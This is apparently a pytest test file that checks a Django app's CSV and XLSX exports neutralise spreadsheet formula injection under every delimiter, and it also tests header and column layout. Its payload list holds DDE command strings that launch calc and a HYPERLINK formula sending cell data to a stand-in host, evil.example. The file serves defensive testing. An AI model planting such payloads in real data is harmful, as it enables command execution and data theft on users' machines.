"""CSV and XLSX downloads: nothing a user typed is read as a formula by a spreadsheet program,
whichever delimiter it splits the CSV on (OWASP CSV injection)."""

import csv
import datetime
import io
import re
import zipfile
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from workflow import demo
from workflow.exports import (
    WIDTH_MAX,
    WIDTH_MIN,
    WIDTH_SAMPLE_ROWS,
    neutralise,
    table_response,
)

JKT = ZoneInfo("Asia/Jakarta")

# From OWASP's CSV injection page and the payloads published with it, plus the ones that only
# become cells when a program splits on another delimiter than the file was written with.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "x;=cmd|' /C calc'!A0",
    "x,=cmd|' /C calc'!A0",
    "x\t=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1;"Klik")',
    '=DDE("cmd";"/C calc";"!A0")',
    "\t=1+1",
    "\r=1+1",
    "a\n@SUM(1+1)",
    "a\r\n-1+1",
    "a; =1+1",
    'a;"=1+1"',
    '=1+2";=1+2',
    '"=1+1";=2',
    "Sistem Informasi; +62 811 (layanan)",
    "  =1+1",
    "\u00a0-1+1",
]
FORMULA_START = tuple("=+-@\t\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def _starts_a_formula(cell: str) -> bool:
    """True when a spreadsheet program could read ``cell`` as a formula, even after
    trimming blanks and quotes."""
    stripped = cell.lstrip("\ufeff").lstrip(' "\u00a0\x0b\x0c')
    if NUMBER.match(stripped.strip('"')):
        return False  # a bare number (e.g. negative working days left) is not a formula
    return stripped.startswith(FORMULA_START)


def assert_csv_is_inert(body: str) -> None:
    # As a CSV reader with each plausible delimiter would see it...
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(body, newline=""), delimiter=delimiter):
            for cell in row:
                assert not _starts_a_formula(cell), (delimiter, cell)
    # ...and as a careless one that knows no quoting at all.
    for line in re.split(r"\r\n|\r|\n", body):
        for cell in re.split(r"[,;\t]", line):
            assert not _starts_a_formula(cell), cell


def assert_xlsx_is_inert(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
    sheet = load_workbook(io.BytesIO(content)).active
    texts = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert not _starts_a_formula(cell.value), cell.value
                texts.append(cell.value)
    return texts


def xml_text(value: str) -> str:
    """``value`` with its line ends normalised to LF.

    Whether a carriage return survives the XLSX round trip depends on openpyxl's XML writer
    (lxml, when installed, keeps it as ``&#13;``; the standard library's does not), so the
    texts are compared with their line ends normalised on both sides.
    """
    return value.replace("\r\n", "\n").replace("\r", "\n")


def at(day: int):
    return time_machine.travel(datetime.datetime(2026, 3, day, 10, tzinfo=JKT), tick=False)


@pytest.fixture
def hostile(actors, units):
    """Submitted proposals named with every payload, of a unit named with payloads too,
    all overdue on 31 March."""
    units["dinkes"].name = "=cmd|' /C calc'!A0;=2"
    units["dinkes"].save()
    with at(2):
        for payload in PAYLOADS:
            demo.walk(demo.create_draft(actors, app_name=payload), actors, ("submit",))


class TestNeutralise:
    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_no_way_of_splitting_the_value_starts_a_formula(self, payload):
        value = neutralise(payload)
        for piece in re.split(r"[,;\t\r\n]", value):
            assert not _starts_a_formula(piece), piece
        # only apostrophes were added: the text a person reads is still there
        assert value.replace("'", "") == payload.replace("'", "")

    @pytest.mark.parametrize(
        "text", ["Sistem Informasi Kepegawaian", "e-mail: a@b.go.id", "2026-03-01", "5 - 3", ""]
    )
    def test_ordinary_text_is_unchanged(self, text):
        assert neutralise(text) == text


class TestListExport:
    url = reverse("requests_intake:list_export")

    @pytest.mark.parametrize("role", ["pemohon", "kasi"])
    def test_csv_holds_no_formula_for_any_delimiter(self, clients, hostile, role):
        with at(31):
            response = clients[role].get(self.url, {"format": "csv"})
        assert response.status_code == 200
        body = b"".join(response.streaming_content).decode("utf-8")
        assert_csv_is_inert(body)
        # every payload is in the file, neutralised, as one quoted field
        rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"), newline="")))
        names = {row[1] for row in rows[1:]}
        assert names == {neutralise(p) for p in PAYLOADS}

    def test_xlsx_has_no_formula_cell(self, clients, hostile):
        with at(31):
            response = clients["kasi"].get(self.url, {"format": "xlsx"})
        assert response.status_code == 200
        texts = assert_xlsx_is_inert(response.content)
        assert {xml_text(neutralise(p)) for p in PAYLOADS} <= {xml_text(t) for t in texts}


class TestDashboardExport:
    url = reverse("workflow:dashboard_export")
    period = {"date_from": "2026-03-01", "date_to": "2026-03-31"}

    @pytest.mark.parametrize("table", ["steps", "months", "units", "overdue"])
    def test_csv_holds_no_formula_for_any_delimiter(self, clients, hostile, table):
        with at(31):
            response = clients["kadis"].get(self.url, {**self.period, "table": table})
        assert response.status_code == 200
        body = b"".join(response.streaming_content).decode("utf-8")
        assert len(body.splitlines()) > 1
        assert_csv_is_inert(body)

    @pytest.mark.parametrize("table", ["steps", "months", "units", "overdue"])
    def test_xlsx_has_no_formula_cell(self, clients, hostile, table):
        with at(31):
            response = clients["kadis"].get(
                self.url, {**self.period, "table": table, "format": "xlsx"}
            )
        assert response.status_code == 200
        assert_xlsx_is_inert(response.content)

    def test_the_hostile_texts_reach_the_exports_neutralised(self, clients, hostile):
        with at(31):
            units = clients["kadis"].get(self.url, {**self.period, "table": "units"})
            overdue = clients["kadis"].get(
                self.url, {**self.period, "table": "overdue", "format": "xlsx"}
            )
        assert "=cmd|' /C calc'!A0;'=2" in b"".join(units.streaming_content).decode()
        texts = assert_xlsx_is_inert(overdue.content)
        assert {xml_text(neutralise(p)) for p in PAYLOADS} <= {xml_text(t) for t in texts}


def assert_office_layout(content: bytes) -> Worksheet:
    """A bold header row that stays in view, and columns sized to what they hold."""
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.freeze_panes == "A2"
    header = next(sheet.iter_rows(max_row=1))
    assert header and all(cell.font.b for cell in header)
    assert not any(cell.font.b for row in sheet.iter_rows(min_row=2) for cell in row)
    for cell in header:
        width = sheet.column_dimensions[cell.column_letter].width
        assert WIDTH_MIN <= width <= WIDTH_MAX, (cell.value, width)
        assert width >= min(len(cell.value), WIDTH_MAX - 2), cell.value
    return sheet


class TestXlsxLayout:
    def test_the_dashboard_table_has_a_bold_frozen_header_and_sized_columns(self, clients, hostile):
        with at(31):
            response = clients["kadis"].get(
                reverse("workflow:dashboard_export"),
                {"date_from": "2026-03-01", "table": "steps", "format": "xlsx"},
            )
        sheet = assert_office_layout(response.content)
        widths = {c.value: sheet.column_dimensions[c.column_letter].width for c in sheet[1]}
        activities = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
        longest = max(len(a) for a in activities)
        assert widths["Kegiatan"] == min(longest + 2, WIDTH_MAX)
        assert widths["Tahap"] == WIDTH_MIN  # a step number needs no more

    def test_the_proposal_list_has_a_bold_frozen_header_and_long_texts_capped(
        self, clients, actors
    ):
        long_name = "Sistem Informasi" + " Pelayanan Terpadu" * 8
        demo.walk(demo.create_draft(actors, app_name=long_name), actors, ("submit",))
        response = clients["kasi"].get(reverse("requests_intake:list_export"), {"format": "xlsx"})
        sheet = assert_office_layout(response.content)
        name_column = next(c.column_letter for c in sheet[2] if c.value == long_name)
        assert sheet.column_dimensions[name_column].width == WIDTH_MAX

    def test_rows_past_the_width_sample_are_all_written(self):
        rows = [[n, f"Aplikasi {n}"] for n in range(1, WIDTH_SAMPLE_ROWS + 51)]
        response = table_response("uji", ["No.", "Nama"], iter(rows), "xlsx")
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert [list(r) for r in sheet.iter_rows(min_row=2, values_only=True)] == rows


def test_text_a_spreadsheet_cannot_store_does_not_break_the_xlsx(clients, actors):
    """Control characters are allowed in a text field but not in an XLSX cell."""
    demo.walk(demo.create_draft(actors, app_name="Bel\x07 #N/A \x1b"), actors, ("submit",))
    response = clients["kasi"].get(reverse("requests_intake:list_export"), {"format": "xlsx"})
    assert response.status_code == 200
    texts = assert_xlsx_is_inert(response.content)
    assert "Bel\ufffd #N/A \ufffd" in texts
